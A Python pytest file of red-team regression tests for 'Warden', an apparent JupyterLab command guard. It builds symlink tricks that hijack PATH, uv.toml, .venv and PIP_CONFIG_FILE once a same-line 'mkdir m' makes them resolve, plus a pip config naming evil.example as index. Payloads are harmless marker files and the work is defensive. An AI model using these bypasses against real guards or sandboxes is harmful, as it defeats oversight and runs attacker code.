"""Red team 57a R57a-1..5, -10 (fix80dangling): a name that is a link leading nowhere while
Warden reads the line, which an earlier command of the line makes resolve.

The kernel resolves ``bin/pip -> ../m/../evil`` component by component and stops at the
missing m: a PATH lookup passes over bin/pip to a later pip, uv reads no ``uv.toml``, no
``.venv``. ``mkdir m`` (a command Warden counts as writing nothing) on the same line makes the
name resolve, and the shell or uv then runs ``evil``. A name through ``/dev/fd`` names the
descriptor the line opens (``uv.toml -> /dev/fd/9`` with ``9<cfg.toml``).
Each attack runs its payload (a marker file appears) without Warden and is refused with it;
the ordinary lines beside them (a venv on PATH with a stale link leading nowhere, old or new)
run.
"""

import os
import subprocess
import sys

import pytest
from launched import installed, system_call
from real_uv import real_uv

from jupyterlab_warden.kernel.guard.installs import dangling, link_walk

PATH_FIRST = 'import os\nos.environ["PATH"] = os.getcwd() + "/bin:" + os.environ["PATH"]\n'
# the cell starts from the same folder state in both runs: no m, no marker
FRESH = (
    "import os, shutil\n"
    "for old in ('m', 'marker'):\n"
    "    shutil.rmtree(old, ignore_errors=True) if os.path.isdir(old) else None\n"
    "    os.remove(old) if os.path.lexists(old) and not os.path.isdir(old) else None\n"
)
UV_ENV = "os.environ.pop('VIRTUAL_ENV', None)\nos.environ.pop('UV_NO_CONFIG', None)\n"


def _evil(kernel, name: str = "evil") -> None:
    """``name`` in the work folder: a program that leaves the marker, then runs a Python (a
    uv query of it gets its answer)."""
    path = kernel.work / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'#!/bin/sh\ntouch {kernel.work}/marker\nexec {sys.executable} "$@"\n')
    path.chmod(0o755)
    (kernel.work / "bin").mkdir(exist_ok=True)
    (kernel.work / "a.txt").write_text("a\n")


def _link(kernel, target: str, name: str, new: bool) -> str:
    """The link ``name`` -> ``target`` in the work folder: made now (``new``: False, before
    the kernel starts), or by the cell (the code returned)."""
    if not new:
        (kernel.work / name).symlink_to(target)
        return ""
    return f"os.symlink({target!r}, {name!r}) if not os.path.lexists({name!r}) else None\n"


def _runs_only_without_warden(kernel, code: str) -> str:
    """The cell leaves the marker without Warden; with Warden it is refused and leaves none.
    The refusal's text."""
    marker = kernel.work / "marker"
    plain = kernel.cell(FRESH + code, launched=False)
    assert plain["refused"] is None and marker.exists(), plain
    guarded = kernel.cell(FRESH + code, launched=True)
    assert guarded["refused"], guarded
    assert not marker.exists(), guarded
    return guarded["refused"]


@pytest.mark.parametrize("new", [False, True], ids=["old link", "new link"])
@pytest.mark.parametrize(
    "name, line",
    [
        ("pip", "mkdir m && pip --version"),  # R57a-1: an installer's name
        ("ls", "mkdir m && ls"),  # R57a-2: any program's
        ("ls", "mkdir -p m/sub; ls"),
        ("ls", "echo $(mkdir m) && ls"),
    ],
)
def test_a_path_entry_leading_nowhere_until_the_line_makes_it_is_refused(kernel, name, line, new):
    """bin/NAME -> ../m/../evil first on PATH: while m is missing the lookup passes over it;
    the line makes m, and the shell runs evil."""
    _evil(kernel)
    code = PATH_FIRST + _link(kernel, "../m/../evil", f"bin/{name}", new) + system_call(line)
    refused = _runs_only_without_warden(kernel, code)
    assert "unsure" in refused and str(kernel.work / "m") in refused, refused


def test_a_new_path_link_a_program_runs_by_name_is_refused(kernel):
    """R57a-2, a program run by name by the line's program (tar runs gzip): bin/gzip ->
    ../m/../evil, made since the kernel started, leads nowhere until ``mkdir m``."""
    installed("tar")
    _evil(kernel)
    code = PATH_FIRST + _link(kernel, "../m/../evil", "bin/gzip", True)
    refused = _runs_only_without_warden(
        kernel, code + system_call("mkdir m && tar czf o.tgz a.txt")
    )
    assert "gzip" in refused and "unsure" in refused, refused


UV_TOML = "open('cfg.toml', 'w').write('[pip]\\npython = ' + repr(os.getcwd() + '/evil') + '\\n')\n"


@pytest.mark.parametrize(
    "pre, line",
    [
        # R57a-3: uv.toml -> m/../cfg.toml, whose [pip] python uv runs to query it
        (UV_TOML + "os.symlink('m/../cfg.toml', 'uv.toml')\n", "mkdir m && uv pip list"),
        (UV_TOML + "os.symlink('m/../cfg.toml', 'uv.toml')\n", "uv venv -q m && uv pip list"),
        # R57a-4: uv.toml -> /dev/fd/9, the line opening cfg.toml there (sh takes one digit)
        (UV_TOML + "os.symlink('/dev/fd/9', 'uv.toml')\n", "uv pip list 9<cfg.toml"),
        # R57a-5: .venv -> m/../vv, an environment whose python is evil
        (
            "os.makedirs('vv/bin')\nopen('vv/pyvenv.cfg', 'w').write('home = /usr/bin\\n')\n"
            "os.symlink('../../evil', 'vv/bin/python')\nos.symlink('m/../vv', '.venv')\n",
            "mkdir m && uv pip list",
        ),
    ],
    ids=["uv.toml mkdir", "uv.toml uv venv", "uv.toml /dev/fd", ".venv"],
)
def test_a_name_uv_discovers_leading_nowhere_until_the_line_makes_it_is_refused(kernel, pre, line):
    """uv reads no uv.toml, no .venv while the link leads nowhere; the line makes it lead to
    a config or an environment that runs evil."""
    _evil(kernel)
    cleanup = (
        "import shutil\nfor old in ('uv.toml', '.venv', 'cfg.toml'):\n"
        "    os.remove(old) if os.path.lexists(old) else None\n"
        "shutil.rmtree('vv', ignore_errors=True)\n"
    )
    code = UV_ENV + cleanup + pre + system_call(line.replace("uv ", f"{real_uv()} ", 1))
    refused = _runs_only_without_warden(kernel, code)
    assert "uv looks for" in refused, refused


def test_a_pip_config_file_leading_nowhere_until_the_line_makes_it_is_refused(tmp_path):
    """R57a-10: PIP_CONFIG_FILE a link to m/../real.conf (its index read by pip once m is
    made): the reading refuses the install after ``mkdir m``, not without it."""
    from jupyterlab_warden.kernel.guard.installs.gate import read_requests

    (tmp_path / "real.conf").write_text("[global]\nindex-url = https://evil.example/simple\n")
    (tmp_path / "pc.conf").symlink_to("m/../real.conf")
    env = {"HOME": str(tmp_path), "PATH": os.environ["PATH"]}

    def problems(line):
        found = read_requests(None, line, env, str(tmp_path))
        return [p for r in found for p in r.problems]

    refused = problems("mkdir m && PIP_CONFIG_FILE=pc.conf pip install requests")
    assert any("pip looks for" in p and "unsure" in p for p in refused), refused
    assert problems("mkdir out && PIP_CONFIG_FILE=pc.conf pip install requests") == []


def _venv_first(kernel, new: bool) -> str:
    """A venv outside the work folder first on PATH holding a stale link leading nowhere
    (``bin/gone -> ../nothing/gone``), made before the kernel starts or by the cell."""
    env = kernel.tmp / "env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    stale = env / "bin" / "gone"
    work = kernel.work
    (work / "train.py").write_text("open('model.txt', 'w').write('m')\n")
    (work / "m.pt").write_text("m")
    (work / "a.txt").write_text("a\n")
    header = f"import os\nos.environ['PATH'] = {str(env / 'bin')!r} + ':' + os.environ['PATH']\n"
    if not new:
        stale.symlink_to("../nothing/gone")
        return header
    return header + f"os.symlink('../nothing/gone', {str(stale)!r})\n"


ORDINARY = [
    "mkdir -p out && cp m.pt out/ && python3 train.py",
    "mkdir m && ls && python3 train.py",
    "mkdir -p out && tar czf out/a.tgz a.txt && ls out",
    "cp a.txt b.txt && python3 train.py && python3 train.py",
]


@pytest.mark.parametrize("new", [False, True], ids=["old link", "new link"])
@pytest.mark.parametrize("line", ORDINARY)
def test_ordinary_lines_with_a_stale_link_on_path_run(kernel, line, new):
    """No false refusal: a stale link leading nowhere in a venv on PATH, old or new, and
    lines whose writers make nothing where it is stuck."""
    installed("tar")
    code = _venv_first(kernel, new) + f"assert os.system({line!r}) == 0\n"
    result = kernel.cell(code, launched=True)
    assert result["refused"] is None, result


def test_a_line_that_makes_something_else_runs_its_program(kernel):
    """bin/ls -> ../m/../evil stuck at m: a line that makes another folder runs (the shell
    passes over bin/ls to the system's ls), Warden allows it, nothing leaves a marker."""
    _evil(kernel)
    code = PATH_FIRST + _link(kernel, "../m/../evil", "bin/ls", False)
    result = kernel.cell(FRESH + code + "assert os.system('mkdir out && ls') == 0\n", launched=True)
    assert result["refused"] is None, result
    assert not (kernel.work / "marker").exists()


def test_unsure_names(tmp_path):
    """``dangling.unsure``: a link stuck at a missing folder (with the place), a link to a
    missing file, a name through /dev/fd, and a ``..`` after a missing folder are unsure; a
    resolving link, a plain missing name and a missing folder of the path's own plain names
    (a writer makes them by name) are not. ``maker`` weighs the line's places."""
    (tmp_path / "evil").write_text("")
    (tmp_path / "lib").mkdir()
    (tmp_path / "stuck").symlink_to("m/../evil")
    (tmp_path / "gone").symlink_to("lib/gone")
    (tmp_path / "fd").symlink_to("/dev/fd/200")
    (tmp_path / "ok").symlink_to("evil")
    (tmp_path / "dir").symlink_to("lib")
    reason = dangling.unsure(str(tmp_path / "stuck"))
    assert reason and reason.stuck == str(tmp_path / "m")
    assert link_walk.walk(str(tmp_path / "stuck")).end == str(tmp_path / "evil")
    assert dangling.unsure(str(tmp_path / "gone")).stuck == str(tmp_path / "lib" / "gone")
    assert dangling.unsure(str(tmp_path / "fd")).stuck == ""
    assert dangling.unsure(str(tmp_path / "m" / ".." / "evil")).stuck == str(tmp_path / "m")
    for plain in ("ok", "nothing", "nope/x/y", "dir/nope/x"):
        assert dangling.unsure(str(tmp_path / plain)) is None, plain
    m = str(tmp_path / "m")
    assert dangling.maker(reason, [("mkdir", m)]) == "mkdir"
    assert dangling.maker(reason, [("mkdir", m + "/sub")]) == "mkdir"
    assert dangling.maker(reason, [("cp/", str(tmp_path))]) == "cp"
    assert dangling.maker(reason, [("cp", str(tmp_path / "out")), ("cp", str(tmp_path))]) == ""
    assert dangling.maker(reason, [("a cd", "")]) == "a cd"
    assert dangling.maker(reason, [("cpio/", str(tmp_path / "out"))]) == "cpio"
    # unzip without -: keeps its members under -d's folder: its places are its own (fixG)
    assert dangling.maker(reason, [("unzip/", str(tmp_path / "out"))]) == ""
